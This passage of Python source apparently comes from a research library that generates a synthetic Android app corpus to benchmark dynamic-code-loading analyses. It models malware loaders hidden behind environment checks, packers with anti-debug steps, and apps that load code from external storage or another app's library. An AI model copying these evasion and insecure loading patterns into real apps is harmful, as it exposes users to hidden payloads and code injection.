    "Video Players", "Weather", "Widgets", "Wallpaper", "Keyboard",
    "Launcher", "Browser", "Security", "File Manager", "Camera", "Email",
)

#: log-normal shape parameter for downloads/ratings (heavy right tail).
SIGMA = 1.6


@dataclass(frozen=True)
class AppMetadata:
    """One app's store-page numbers."""

    category: str
    downloads: int
    n_ratings: int
    avg_rating: float
    release_time_ms: int
    #: store-page version; single-snapshot corpora stay at 1, lineage
    #: versions (:mod:`repro.evolution`) count up monotonically.
    version_code: int = 1


def _lognormal_with_mean(rng: random.Random, mean: float) -> float:
    """Sample X ~ LogNormal with E[X] = mean (mu = ln(mean) - sigma^2/2)."""
    mu = math.log(max(mean, 1.0)) - SIGMA * SIGMA / 2.0
    return rng.lognormvariate(mu, SIGMA)


def sample_metadata(
    rng: random.Random,
    profile: CorpusProfile,
    has_dex_dcl_code: bool,
    has_native_code: bool,
    category: str,
    now_ms: int,
) -> AppMetadata:
    """Popularity correlated with DCL presence, per Table III."""
    if has_native_code:
        downloads_mean = profile.mean_downloads_native
        ratings_mean = profile.mean_ratings_native
        rating_center = profile.avg_rating_native
    elif has_dex_dcl_code:
        downloads_mean = profile.mean_downloads_dex
        ratings_mean = profile.mean_ratings_dex
        rating_center = profile.avg_rating_dex
    else:
        downloads_mean = min(profile.mean_downloads_no_dex, profile.mean_downloads_no_native)
        ratings_mean = min(profile.mean_ratings_no_dex, profile.mean_ratings_no_native)
        rating_center = min(profile.avg_rating_no_dex, profile.avg_rating_no_native)

    downloads = int(_lognormal_with_mean(rng, downloads_mean))
    n_ratings = int(_lognormal_with_mean(rng, ratings_mean))
    avg_rating = min(5.0, max(1.0, rng.normalvariate(rating_center, 0.45)))
    # released between ~3 years and ~1 month before the crawl date.
    release_time_ms = now_ms - rng.randint(30, 1100) * 86_400_000
    return AppMetadata(
        category=category,
        downloads=downloads,
        n_ratings=n_ratings,
        avg_rating=round(avg_rating, 2),
        release_time_ms=release_time_ms,
    )
