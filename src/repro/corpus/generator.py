"""Blueprint sampling and APK assembly for the synthetic market.

``generate_corpus(n_apps, seed)`` is the library's stand-in for the paper's
58,739-app Google Play crawl.  Generation is two-phase:

1. **blueprints** -- per-app feature vectors sampled from the calibrated
   :class:`CorpusProfile` (DCL code presence, runtime reachability, entity
   mix, obfuscation, popularity), with the paper's *rare* populations
   (remote-fetch apps, malware carriers, packed apps, vulnerable apps,
   per-type privacy trackers) planted deterministically so every table has
   content at any scale;
2. **assembly** -- each blueprint becomes a real installable :class:`Apk`
   with bytecode emitted by :mod:`repro.corpus.behaviors` /
   :mod:`repro.corpus.sdks`, plus its runtime environment (remote
   resources to host, companion apps to pre-install).

Each :class:`AppRecord` keeps its blueprint as ground truth so tests can
score the analyses against what was actually generated.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field, replace
from typing import Dict, List, Optional, Sequence, Set, Tuple

from repro.android.apk import Apk
from repro.android.builders import (
    MethodBuilder,
    build_secondary_dex,
    build_split_apk,
    class_builder,
)
from repro.android.dex import DexClass, DexFile
from repro.android.manifest import (
    INTERNET,
    WRITE_EXTERNAL_STORAGE,
    AndroidManifest,
    Component,
    ComponentKind,
)
from repro.android.nativelib import (
    INTRINSIC_DECRYPT_AND_LOAD,
    NativeBlock,
    NativeFunction,
    NativeInsn,
    NativeLibrary,
    NativeOp,
)
from repro.corpus import behaviors, names, sdks
from repro.corpus.behaviors import CTX, BehaviorContext, EnvGates
from repro.corpus.metadata import CATEGORIES, AppMetadata, sample_metadata
from repro.corpus.profiles import FIG3_CATEGORY_WEIGHTS, CorpusProfile
from repro.runtime.device import DEFAULT_TIME_MS
from repro.static_analysis.malware import families

#: packer vendor container namespaces (Bangcle/Ijiami/360/Alibaba-style).
PACKER_CONTAINERS = (
    "com.secneo.guard.StubApplication",
    "com.bangcle.protect.ApplicationWrapper",
    "com.qihoo.util.StubApp",
    "com.ali.mobisecenhance.StubApplication",
)

MALWARE_SDK_PACKAGE = "com.pushmob.plugin"
CHATHOOK_SDK_PACKAGE = "com.hookassist.core"


@dataclass
class AppBlueprint:
    """Ground-truth feature vector for one generated app."""

    index: int
    package: str
    category: str
    # obfuscation
    lexical_obfuscated: bool = False
    reflection: bool = False
    anti_decompilation: bool = False
    is_packed: bool = False
    packer_container: Optional[str] = None
    # DCL code presence and runtime reachability
    has_dex_dcl_code: bool = False
    dex_dcl_reachable: bool = False
    has_native_code: bool = False
    native_dcl_reachable: bool = False
    dex_entity: Optional[str] = None       # "third" | "own" | "both"
    native_entity: Optional[str] = None
    # dynamic-analysis outcome drivers (Table II)
    anti_repackaging: bool = False
    no_activity: bool = False
    crashy: bool = False
    declares_external_write: bool = True
    # rare planted roles
    is_baidu_remote: bool = False
    malware_family: Optional[str] = None
    chathook_double: bool = False
    malware_gates: EnvGates = field(default_factory=EnvGates)
    vuln_kind: Optional[str] = None        # "dex-external" | "native-other-app"
    vuln_other_app: Optional[str] = None
    #: where reachable DCL fires: at launch (most apps) or from a UI handler.
    dcl_trigger: str = "launch"
    # privacy (Table X)
    uses_google_ads: bool = False
    leak_types: Tuple[str, ...] = ()
    #: pinned analytics-SDK vendor; ``None`` lets the assembly rng choose.
    #: Lineage mutations (:mod:`repro.evolution.lineage`) pin it so an SDK
    #: swap changes exactly one payload across versions.
    sdk_vendor: Optional[str] = None
    # modern DCL ecosystems (scenario pack; all off under paper profiles).
    #: app-as-host loading a whole sub-app through a plugin framework.
    is_plugin_host: bool = False
    #: ships secondary dex + feature/config split APKs loaded at runtime.
    is_split_apk: bool = False
    #: dropper chain: each fetched payload fetches the next stage.
    is_staged_downloader: bool = False
    staged_depth: int = 0
    #: shelves features behind guard stubs, re-loads them on demand.
    is_self_debloating: bool = False
    #: lineage churn counters: bumping one re-generates that ecosystem's
    #: payload bytes (hot update / split update / staged update / re-shelf).
    plugin_generation: int = 0
    split_generation: int = 0
    stage_generation: int = 0
    shelf_generation: int = 0


@dataclass
class AppRecord:
    """One corpus entry: the APK plus its runtime environment."""

    apk: Apk
    metadata: AppMetadata
    blueprint: AppBlueprint
    remote_resources: Dict[str, bytes] = field(default_factory=dict)
    companions: Tuple[Apk, ...] = ()

    @property
    def package(self) -> str:
        return self.blueprint.package

    @property
    def release_time_ms(self) -> int:
        return self.metadata.release_time_ms

    @property
    def version_code(self) -> int:
        return self.metadata.version_code


class CorpusGenerator:
    """Deterministic market synthesis from a profile + seed."""

    def __init__(self, profile: Optional[CorpusProfile] = None, seed: int = 0) -> None:
        self.profile = profile or CorpusProfile()
        self.seed = seed

    # -- phase 1: blueprints ----------------------------------------------------

    def sample_blueprints(self, n_apps: int) -> List[AppBlueprint]:
        profile = self.profile
        rng = random.Random("corpus-blueprints-{}".format(self.seed))
        blueprints: List[AppBlueprint] = []
        used_packages = set()

        for index in range(n_apps):
            package = names.package_name(rng)
            while package in used_packages:
                package = names.package_name(rng)
            used_packages.add(package)

            has_dex = rng.random() < profile.p_dex_dcl_code
            p_native = (
                profile.p_native_code_given_dex
                if has_dex
                else profile.p_native_code_given_no_dex
            )
            has_native = rng.random() < p_native

            blueprint = AppBlueprint(
                index=index,
                package=package,
                category=rng.choice(CATEGORIES),
                lexical_obfuscated=rng.random() < profile.p_lexical_obfuscation,
                reflection=rng.random() < profile.p_reflection,
                has_dex_dcl_code=has_dex,
                has_native_code=has_native,
            )
            if has_dex:
                blueprint.anti_repackaging = rng.random() < profile.p_anti_repackaging
                blueprint.no_activity = rng.random() < profile.p_no_activity
                blueprint.crashy = rng.random() < profile.p_crash
            elif has_native:
                blueprint.no_activity = rng.random() < profile.p_no_activity
                blueprint.crashy = rng.random() < profile.p_crash_native_only
            blueprint.declares_external_write = (
                not blueprint.anti_repackaging and rng.random() < 0.55
            )
            exercised = not (
                blueprint.anti_repackaging or blueprint.no_activity or blueprint.crashy
            )
            if has_dex and exercised:
                blueprint.dex_dcl_reachable = rng.random() < profile.p_dex_dcl_reachable
            if has_native and exercised:
                blueprint.native_dcl_reachable = (
                    rng.random() < profile.p_native_dcl_reachable
                )
            if blueprint.dex_dcl_reachable:
                blueprint.dex_entity = _sample_mix(rng, profile.dex_entity_mix)
            if blueprint.native_dcl_reachable:
                blueprint.native_entity = _sample_mix(rng, profile.native_entity_mix)
            if blueprint.dex_dcl_reachable or blueprint.native_dcl_reachable:
                if rng.random() < profile.p_dcl_on_ui_event:
                    blueprint.dcl_trigger = "ui"
            blueprints.append(blueprint)

        taken = self._plant_rare_roles(rng, blueprints, n_apps)
        self._assign_privacy(rng, blueprints, n_apps)
        # the ecosystem pack plants last, from its own rng stream, AFTER the
        # privacy draws: the paper corpus must stay byte-identical with the
        # pack's knobs off OR on (only planted apps may differ).
        self._plant_ecosystem_roles(blueprints, n_apps, taken)
        return blueprints

    def _plant_rare_roles(
        self, rng: random.Random, blueprints: List[AppBlueprint], n_apps: int
    ) -> Set[int]:
        profile = self.profile
        order = list(range(len(blueprints)))
        rng.shuffle(order)
        cursor = iter(order)
        taken = set()

        def claim(force_dex: bool = False, force_native: bool = False) -> AppBlueprint:
            for index in cursor:
                if index in taken:
                    continue
                blueprint = blueprints[index]
                if blueprint.is_packed or blueprint.anti_decompilation:
                    continue
                taken.add(index)
                blueprint.anti_repackaging = False
                blueprint.no_activity = False
                blueprint.crashy = False
                blueprint.dcl_trigger = "launch"  # deterministic interception
                if force_dex:
                    blueprint.has_dex_dcl_code = True
                    blueprint.dex_dcl_reachable = True
                    if blueprint.dex_entity is None:
                        blueprint.dex_entity = "third"
                if force_native:
                    blueprint.has_native_code = True
                    blueprint.native_dcl_reachable = True
                    if blueprint.native_entity is None:
                        blueprint.native_entity = "third"
                return blueprint
            raise RuntimeError("corpus too small to plant all rare roles")

        # anti-decompilation apps (Table VI row 5).
        for _ in range(profile.planted_count(profile.n_anti_decompilation_apps, n_apps)):
            blueprint = claim()
            blueprint.anti_decompilation = True

        # DEX-encryption packed apps (Table VI row 4, Figure 3).
        categories = sorted(FIG3_CATEGORY_WEIGHTS)
        weights = [FIG3_CATEGORY_WEIGHTS[c] for c in categories]
        for _ in range(profile.planted_count(profile.n_dex_encryption_apps, n_apps)):
            blueprint = claim(force_dex=True)
            blueprint.is_packed = True
            blueprint.packer_container = rng.choice(PACKER_CONTAINERS)
            blueprint.category = rng.choices(categories, weights=weights, k=1)[0]
            blueprint.dex_entity = "third"

        # remote-fetch apps (Table V).
        for _ in range(profile.planted_count(profile.n_remote_fetch_apps, n_apps)):
            blueprint = claim(force_dex=True)
            blueprint.is_baidu_remote = True
            if blueprint.dex_entity == "own":
                blueprint.dex_entity = "third"

        # malware carriers (Tables VII/VIII).
        for family, count in (
            (families.SWISS_CODE_MONKEYS, profile.n_swiss_code_monkeys_apps),
            (families.ADWARE_AIRPUSH, profile.n_airpush_apps),
        ):
            for _ in range(profile.planted_count(count, n_apps)):
                blueprint = claim(force_dex=True)
                blueprint.malware_family = family
                blueprint.malware_gates = self._sample_gates(rng)
        n_chathook = profile.planted_count(profile.n_chathook_apps, n_apps)
        n_double = profile.planted_count(profile.n_chathook_double_loaders, n_apps)
        for position in range(n_chathook):
            blueprint = claim(force_native=True)
            blueprint.malware_family = families.CHATHOOK_PTRACE
            blueprint.chathook_double = position < n_double
            blueprint.malware_gates = self._sample_gates(rng)

        # vulnerable apps (Table IX).
        for _ in range(profile.planted_count(profile.n_vuln_dex_external, n_apps)):
            blueprint = claim(force_dex=True)
            blueprint.vuln_kind = "dex-external"
            blueprint.declares_external_write = True
            if blueprint.dex_entity == "third":
                blueprint.dex_entity = "own"
        n_vuln_native = profile.planted_count(profile.n_vuln_native_other_app, n_apps)
        for position in range(n_vuln_native):
            blueprint = claim(force_native=True)
            blueprint.vuln_kind = "native-other-app"
            blueprint.vuln_other_app = (
                "com.devicescape.offloader" if position == n_vuln_native - 1 and n_vuln_native > 1
                else "com.adobe.air"
            )
            blueprint.native_entity = "own"
        return taken

    def _plant_ecosystem_roles(
        self, blueprints: List[AppBlueprint], n_apps: int, taken: Set[int]
    ) -> None:
        """Modern DCL ecosystems (scenario pack).

        Runs after every classic draw from its own rng stream so that with
        the pack's knobs at their zero defaults -- and for every app the
        pack does not claim -- the generated corpus is byte-identical to
        the plain paper profile.
        """
        profile = self.profile
        total = (
            profile.n_plugin_host_apps
            + profile.n_split_apk_apps
            + profile.n_staged_downloader_apps
            + profile.n_self_debloating_apps
        )
        if total == 0:
            return
        rng = random.Random("corpus-ecosystems-{}".format(self.seed))
        order = list(range(len(blueprints)))
        rng.shuffle(order)
        cursor = iter(order)

        def claim() -> AppBlueprint:
            for index in cursor:
                if index in taken:
                    continue
                blueprint = blueprints[index]
                if blueprint.is_packed or blueprint.anti_decompilation:
                    continue
                taken.add(index)
                blueprint.anti_repackaging = False
                blueprint.no_activity = False
                blueprint.crashy = False
                blueprint.dcl_trigger = "launch"  # deterministic interception
                blueprint.has_dex_dcl_code = True
                blueprint.dex_dcl_reachable = True
                if blueprint.dex_entity is None:
                    blueprint.dex_entity = "third"
                return blueprint
            raise RuntimeError("corpus too small to plant all ecosystem roles")

        for _ in range(profile.planted_count(profile.n_plugin_host_apps, n_apps)):
            claim().is_plugin_host = True
        for _ in range(profile.planted_count(profile.n_split_apk_apps, n_apps)):
            claim().is_split_apk = True
        for _ in range(profile.planted_count(profile.n_staged_downloader_apps, n_apps)):
            blueprint = claim()
            blueprint.is_staged_downloader = True
            blueprint.staged_depth = profile.staged_downloader_depth
        for _ in range(profile.planted_count(profile.n_self_debloating_apps, n_apps)):
            claim().is_self_debloating = True

    def _sample_gates(self, rng: random.Random) -> EnvGates:
        profile = self.profile
        return EnvGates(
            system_time=rng.random() < profile.p_gate_system_time,
            airplane_flag=rng.random() < profile.p_gate_airplane_flag,
            connectivity=rng.random() < profile.p_gate_connectivity,
            location=rng.random() < profile.p_gate_location,
        )

    def _assign_privacy(
        self, rng: random.Random, blueprints: List[AppBlueprint], n_apps: int
    ) -> None:
        profile = self.profile
        hosts = [
            blueprint
            for blueprint in blueprints
            if blueprint.dex_dcl_reachable
            and not blueprint.is_packed
            and not blueprint.is_baidu_remote
            and blueprint.malware_family is None
        ]
        others: List[AppBlueprint] = []
        for blueprint in hosts:
            if blueprint.dex_entity != "own" and rng.random() < profile.p_google_ads_sdk:
                blueprint.uses_google_ads = True
            else:
                others.append(blueprint)

        leak_sets: Dict[int, set] = {blueprint.index: set() for blueprint in others}
        for data_type, paper_count in profile.table_x_counts.items():
            target = profile.planted_count(paper_count, n_apps)
            if not others:
                break
            for blueprint in rng.sample(others, k=min(target, len(others))):
                leak_sets[blueprint.index].add(data_type)
        for blueprint in others:
            chosen = leak_sets[blueprint.index]
            if rng.random() < profile.p_other_payload_tracks_settings:
                chosen.add("Settings")
            blueprint.leak_types = tuple(sorted(chosen))

    # -- phase 2: assembly ---------------------------------------------------------

    def build_record(
        self,
        blueprint: AppBlueprint,
        version_code: Optional[int] = None,
        release_offset_ms: int = 0,
    ) -> AppRecord:
        """Assemble one APK; ``version_code``/``release_offset_ms`` stamp a
        lineage version on top of the base (version 1) identity.

        The assembly rng is keyed by ``(seed, index)`` only, so an app
        whose blueprint is unchanged between versions emits byte-identical
        payloads -- the invariant cross-version verdict dedup rests on.
        Only the manifest/metadata version stamp differs.
        """
        rng = random.Random("app-{}-{}".format(self.seed, blueprint.index))
        meta_rng = random.Random("meta-{}-{}".format(self.seed, blueprint.index))
        metadata = sample_metadata(
            meta_rng,
            self.profile,
            blueprint.has_dex_dcl_code,
            blueprint.has_native_code,
            blueprint.category,
            DEFAULT_TIME_MS,
        )
        if version_code is not None or release_offset_ms:
            metadata = replace(
                metadata,
                version_code=version_code if version_code is not None else metadata.version_code,
                release_time_ms=metadata.release_time_ms + release_offset_ms,
            )
        ctx = BehaviorContext(
            rng=rng, package=blueprint.package, release_time_ms=metadata.release_time_ms
        )
        if blueprint.is_packed:
            apk = self._build_packed_apk(rng, blueprint, ctx)
        else:
            apk = self._build_regular_apk(rng, blueprint, ctx)
        if version_code is not None:
            manifest = apk.manifest
            manifest.version_code = version_code
            apk.put_manifest(manifest)
        if blueprint.anti_decompilation:
            apk.enable_anti_decompilation()
        if blueprint.anti_repackaging:
            apk.enable_anti_repackaging()
        self._host_embedded_urls(apk, ctx)
        return AppRecord(
            apk=apk,
            metadata=metadata,
            blueprint=blueprint,
            remote_resources=dict(ctx.remote_resources),
            companions=tuple(ctx.companions),
        )

    def _host_embedded_urls(self, apk: Apk, ctx: BehaviorContext) -> None:
        """Host every URL any bundled bytecode references.

        Real ad/analytics/C2 endpoints were live during the paper's
        measurement; without this, payload fetches would 404 and crash apps
        that were perfectly healthy in the wild.  Already-registered
        resources (the Baidu remote binaries) are left untouched.
        """
        from repro.android.dex import DexFormatError, is_dex_bytes

        dexes = list(apk.dex_files())
        for _, data in apk.asset_entries():
            if is_dex_bytes(data):
                try:
                    dexes.append(DexFile.from_bytes(data))
                except DexFormatError:
                    continue
        for data in list(ctx.remote_resources.values()):
            if is_dex_bytes(data):
                try:
                    dexes.append(DexFile.from_bytes(data))
                except DexFormatError:
                    continue
        for dex in dexes:
            for url in behaviors.extract_url_constants(dex):
                ctx.remote_resources.setdefault(url, b"HTTP/200 content")

    # -- regular apps ------------------------------------------------------------------

    def _build_regular_apk(
        self, rng: random.Random, blueprint: AppBlueprint, ctx: BehaviorContext
    ) -> Apk:
        package = blueprint.package
        obfuscated = blueprint.lexical_obfuscated
        class_names = names.class_names_for_app(rng, package, 5, obfuscated)
        activity_name = class_names[0]

        dex = DexFile()
        stub_calls: List[Tuple[str, str]] = []

        # SDK stubs first (they register assets/resources on ctx).
        if blueprint.uses_google_ads:
            stub = sdks.build_google_ads_sdk(ctx)
            dex.classes.append(stub.dex_class)
            stub_calls.append((stub.entry_class, stub.entry_method))
        if blueprint.is_baidu_remote:
            stub = sdks.build_baidu_remote_ads_sdk(ctx)
            dex.classes.append(stub.dex_class)
            stub_calls.append((stub.entry_class, stub.entry_method))
        needs_generic_sdk = (
            blueprint.dex_dcl_reachable
            and blueprint.dex_entity in ("third", "both")
            and not blueprint.uses_google_ads
            and not blueprint.is_baidu_remote
            and blueprint.malware_family
            not in (families.SWISS_CODE_MONKEYS, families.ADWARE_AIRPUSH)
        )
        if needs_generic_sdk:
            # Even with no sensitive tracking, the SDK still loads its
            # payload at runtime (an empty leak list is a clean payload).
            # The vendor draw happens unconditionally so a pinned
            # ``sdk_vendor`` (lineage SDK swap) leaves the rng stream --
            # and therefore every *other* payload's bytes -- unchanged.
            drawn_vendor = ctx.rng.choice(sdks.ANALYTICS_VENDORS)
            stub = sdks.build_analytics_sdk(
                ctx,
                list(blueprint.leak_types),
                vendor=blueprint.sdk_vendor or drawn_vendor,
            )
            dex.classes.append(stub.dex_class)
            stub_calls.append((stub.entry_class, stub.entry_method))
        if blueprint.native_dcl_reachable and blueprint.native_entity in ("third", "both"):
            stub = sdks.build_native_engine_sdk(ctx)
            dex.classes.append(stub.dex_class)
            stub_calls.append((stub.entry_class, stub.entry_method))
        if blueprint.malware_family in (families.SWISS_CODE_MONKEYS, families.ADWARE_AIRPUSH):
            stub = self._build_dex_malware_stub(rng, blueprint, ctx)
            dex.classes.append(stub.dex_class)
            stub_calls.append((stub.entry_class, stub.entry_method))
        if blueprint.malware_family == families.CHATHOOK_PTRACE:
            stub = self._build_chathook_stub(rng, blueprint, ctx)
            dex.classes.append(stub.dex_class)
            stub_calls.append((stub.entry_class, stub.entry_method))
        if blueprint.is_plugin_host:
            stub = sdks.build_plugin_host_sdk(
                ctx, hijack_class=activity_name,
                generation=blueprint.plugin_generation,
            )
            dex.classes.append(stub.dex_class)
            stub_calls.append((stub.entry_class, stub.entry_method))
        if blueprint.is_staged_downloader:
            stub = sdks.build_staged_downloader_sdk(
                ctx, depth=blueprint.staged_depth or 3,
                generation=blueprint.stage_generation,
            )
            dex.classes.append(stub.dex_class)
            stub_calls.append((stub.entry_class, stub.entry_method))
        if blueprint.is_self_debloating:
            stub = self._build_self_debloating_stub(blueprint, ctx)
            dex.classes.append(stub.dex_class)
            stub_calls.append((stub.entry_class, stub.entry_method))
        if blueprint.vuln_kind == "native-other-app":
            ctx.companions.append(self._build_companion(rng, blueprint.vuln_other_app))

        # The activity.  DCL fires either at launch (onCreate) or only from
        # a UI handler the Monkey has to reach (the event-budget ablation).
        activity = class_builder(activity_name, superclass="android.app.Activity")
        on_create = MethodBuilder("onCreate", activity_name, arity=1)
        if blueprint.crashy:
            on_create.throw_new("java.lang.NullPointerException")
        if blueprint.reflection:
            behaviors.emit_reflection_use(on_create, activity_name)
        if blueprint.dcl_trigger == "ui":
            trigger = MethodBuilder("onBannerClick", activity_name, arity=1)
        else:
            trigger = on_create
        for stub_class, stub_method in stub_calls:
            trigger.call_void(stub_class, stub_method, trigger.arg(CTX))
        extra_dexes: List[DexFile] = []
        if blueprint.is_split_apk:
            extra_dexes.append(
                self._emit_split_payloads(trigger, blueprint, ctx, class_names)
            )
        if blueprint.dex_dcl_reachable and blueprint.dex_entity in ("own", "both"):
            self._emit_own_plugin_load(rng, trigger, blueprint, ctx)
        if blueprint.vuln_kind == "dex-external":
            self._emit_external_storage_load(rng, trigger, blueprint, ctx)
        if blueprint.vuln_kind == "native-other-app":
            behaviors.emit_native_load_path(
                trigger,
                "/data/data/{}/lib/{}".format(
                    blueprint.vuln_other_app,
                    "libCore.so" if blueprint.vuln_other_app == "com.adobe.air" else "libdevicescape-jni.so",
                ),
            )
        if blueprint.native_dcl_reachable and blueprint.native_entity in ("own", "both"):
            library = sdks.benign_native_library(rng)
            ctx.native_libs.append(library)
            behaviors.emit_native_load_library(
                trigger, library.name[len("lib"):-len(".so")]
            )
        on_create.ret_void()
        activity.add_method(on_create.build())
        if trigger is not on_create:
            trigger.ret_void()
            activity.add_method(trigger.build())

        # Dead DCL code: present in the IR, never invoked (prefilter-only).
        if blueprint.has_dex_dcl_code and not blueprint.dex_dcl_reachable and not stub_calls:
            activity.add_method(self._dead_dex_dcl_method(rng, activity_name, package))
        elif blueprint.has_dex_dcl_code and not blueprint.dex_dcl_reachable:
            activity.add_method(self._dead_dex_dcl_method(rng, activity_name, package))
        if blueprint.has_native_code and not blueprint.native_dcl_reachable:
            activity.add_method(self._dead_native_dcl_method(rng, activity_name))
        dex.classes.append(activity)

        # Filler classes with benign bodies.
        for class_name in class_names[1:]:
            dex.classes.append(self._filler_class(rng, class_name, obfuscated))

        manifest = AndroidManifest(
            package=package,
            min_sdk=14 if rng.random() < 0.8 else 19,
            permissions={INTERNET}
            | ({WRITE_EXTERNAL_STORAGE} if blueprint.declares_external_write else set()),
            components=[]
            if blueprint.no_activity
            else [Component(ComponentKind.ACTIVITY, activity_name, True)],
        )
        if blueprint.vuln_kind == "dex-external":
            manifest.min_sdk = 14  # verified as supporting pre-KitKat (Table IX)
        return Apk.build(
            manifest,
            dex_files=[dex] + extra_dexes,
            native_libs=list(ctx.native_libs),
            assets=ctx.assets,
        )

    # -- packed apps -----------------------------------------------------------------------

    def _build_packed_apk(
        self, rng: random.Random, blueprint: AppBlueprint, ctx: BehaviorContext
    ) -> Apk:
        """The Bangcle/Ijiami pattern: container + native decryptor + payload."""
        package = blueprint.package
        activity_name = "{}.MainActivity".format(package)

        original_activity = class_builder(activity_name, superclass="android.app.Activity")
        on_create = MethodBuilder("onCreate", activity_name, arity=1)
        on_create.call_void(
            "android.util.Log", "d", on_create.new_string("app"), on_create.new_string("real app running")
        )
        on_create.ret_void()
        original_activity.add_method(on_create.build())
        original_dex = DexFile(classes=[original_activity])

        key = bytes([rng.randint(1, 255)])
        encrypted = original_dex.encrypt(key)
        asset_name = "jiagu_data.bin"
        decrypted_path = "/data/data/{}/files/.cache_real.dex".format(package)

        decryptor = NativeLibrary(
            name="libsecexec.so",
            functions=[
                NativeFunction(
                    "JNI_OnLoad",
                    [
                        NativeBlock(
                            "entry",
                            [
                                NativeInsn(NativeOp.BL, ("libc!fopen",)),
                                NativeInsn(NativeOp.XOR, ("r0", "r1")),
                                NativeInsn(NativeOp.BL, ("libc!fwrite",)),
                                NativeInsn(NativeOp.SVC, ("ptrace",)),  # anti-debug
                                NativeInsn(NativeOp.RET),
                            ],
                        )
                    ],
                )
            ],
            intrinsics={
                "JNI_OnLoad": {
                    "kind": INTRINSIC_DECRYPT_AND_LOAD,
                    "source": "asset:{}".format(asset_name),
                    "dest": decrypted_path,
                    "key_hex": key.hex(),
                }
            },
        )

        container_name = blueprint.packer_container
        container = class_builder(container_name, superclass="android.app.Application")
        boot = MethodBuilder("onCreate", container_name, arity=1)
        behaviors.emit_native_load_library(boot, "secexec")
        behaviors.emit_dex_load(
            boot, decrypted_path, "/data/data/{}/cache/odex".format(package)
        )
        boot.ret_void()
        container.add_method(boot.build())
        container_dex = DexFile(classes=[container])

        manifest = AndroidManifest(
            package=package,
            min_sdk=14,
            permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
            components=[Component(ComponentKind.ACTIVITY, activity_name, True)],
            application_name=container_name,
        )
        return Apk.build(
            manifest,
            dex_files=[container_dex],
            native_libs=[decryptor],
            assets={"assets/{}".format(asset_name): encrypted},
        )

    # -- special stubs ----------------------------------------------------------------------

    def _build_dex_malware_stub(
        self, rng: random.Random, blueprint: AppBlueprint, ctx: BehaviorContext
    ) -> sdks.SdkStub:
        """A shady plugin SDK copying + env-gated-loading a malicious DEX."""
        if blueprint.malware_family == families.SWISS_CODE_MONKEYS:
            payload = families.swiss_code_monkeys_dex(rng.randint(0, 2**31))
            entry_method = "onStart"
        else:
            payload = families.adware_airpush_minimob_dex(rng.randint(0, 2**31))
            entry_method = "run"
        entry_class = payload.classes[0].name
        asset_name = "plugin_core.bin"
        ctx.assets["assets/{}".format(asset_name)] = payload.to_bytes()

        stub_name = "{}.PluginLoader".format(MALWARE_SDK_PACKAGE)
        cls = class_builder(stub_name)
        b = MethodBuilder("start", stub_name, arity=1, is_static=True)
        skip = "hide"
        behaviors.emit_env_gates(b, blueprint.malware_gates, ctx.release_time_ms, skip)
        dest = "/data/data/{}/files/plugin_core.jar".format(ctx.package)
        behaviors.emit_asset_to_file(b, asset_name, dest)
        behaviors.emit_dex_load(
            b,
            dest,
            "/data/data/{}/cache/odex".format(ctx.package),
            entry_class=entry_class,
            entry_method=entry_method,
        )
        b.label(skip)
        b.ret_void()
        cls.add_method(b.build())
        return sdks.SdkStub(dex_class=cls, entry_class=stub_name)

    def _build_chathook_stub(
        self, rng: random.Random, blueprint: AppBlueprint, ctx: BehaviorContext
    ) -> sdks.SdkStub:
        """A helper SDK env-gated-loading the Chathook native payload(s)."""
        libraries = [families.chathook_ptrace_native(rng.randint(0, 2**31))]
        if blueprint.chathook_double:
            libraries.append(families.chathook_ptrace_native(rng.randint(0, 2**31)))
        ctx.native_libs.extend(libraries)

        stub_name = "{}.NativeHelper".format(CHATHOOK_SDK_PACKAGE)
        cls = class_builder(stub_name)
        b = MethodBuilder("start", stub_name, arity=1, is_static=True)
        skip = "hide"
        behaviors.emit_env_gates(b, blueprint.malware_gates, ctx.release_time_ms, skip)
        for library in libraries:
            behaviors.emit_native_load_library(b, library.name[len("lib"):-len(".so")])
        b.label(skip)
        b.ret_void()
        cls.add_method(b.build())
        return sdks.SdkStub(dex_class=cls, entry_class=stub_name)

    def _build_companion(self, rng: random.Random, package: str) -> Apk:
        """The other app whose private library a vulnerable app loads."""
        lib_name = "libCore.so" if package == "com.adobe.air" else "libdevicescape-jni.so"
        library = sdks.benign_native_library(rng, name=lib_name)
        manifest = AndroidManifest(package=package, permissions={INTERNET})
        return Apk.build(manifest, dex_files=[DexFile()], native_libs=[library])

    # -- per-app emission helpers ------------------------------------------------------------

    def _emit_split_payloads(
        self,
        b: MethodBuilder,
        blueprint: AppBlueprint,
        ctx: BehaviorContext,
        class_names: List[str],
    ) -> DexFile:
        """Multi-dex + split-APK ecosystem: returns the ``classes2.dex``.

        The app ships a secondary dex (warmed from the trigger, so the
        multi-dex install path is exercised), plus a feature split and a
        config split as assets.  At runtime both splits are copied into
        the app's private ``splits/`` dir and loaded through ONE
        classloader whose dexPath lists them in the wrong order -- the
        split-aware load-order logic in the runtime has to fix it.  The
        feature split deliberately redefines a host class
        (``class_names[1]``), the namespace-collision hazard.
        """
        package = blueprint.package
        generation = blueprint.split_generation

        secondary_name = "{}.multidex.Secondary".format(package)
        secondary_cls = class_builder(secondary_name)
        warm = MethodBuilder("warm", secondary_name, arity=1, is_static=True)
        warm.call_void(
            "android.util.Log", "d", warm.new_string("multidex"),
            warm.new_string("secondary dex warm"),
        )
        warm.ret_void()
        secondary_cls.add_method(warm.build())
        b.call_void(secondary_name, "warm", b.arg(CTX))

        feature_main = "{}.feature.FeatureMain".format(package)
        feature_cls = class_builder(feature_main)
        init = MethodBuilder("<init>", feature_main, arity=1)
        init.ret_void()
        feature_cls.add_method(init.build())
        run = MethodBuilder("run", feature_main, arity=1)
        run.call_void(
            "android.util.Log", "d", run.new_string("split"),
            run.new_string("feature split generation {}".format(generation)),
        )
        run.ret_void()
        feature_cls.add_method(run.build())
        collided = class_builder(class_names[1])
        shadow = MethodBuilder("shadow", class_names[1], arity=1)
        shadow.ret_void()
        collided.add_method(shadow.build())
        feature_apk = build_split_apk(
            package, "feature", [feature_cls, collided], version_code=1 + generation
        )

        config_name = "{}.config.DensityPack".format(package)
        config_cls = class_builder(config_name)
        config_cls.add_method(
            MethodBuilder("densities", config_name, arity=1).build()
        )
        config_apk = build_split_apk(
            package, "config.xhdpi", [config_cls], version_code=1 + generation
        )

        ctx.assets["assets/split_feature.apk"] = feature_apk.to_bytes()
        ctx.assets["assets/config.xhdpi.apk"] = config_apk.to_bytes()
        splits_dir = "/data/data/{}/splits".format(package)
        feature_dest = "{}/split_feature.apk".format(splits_dir)
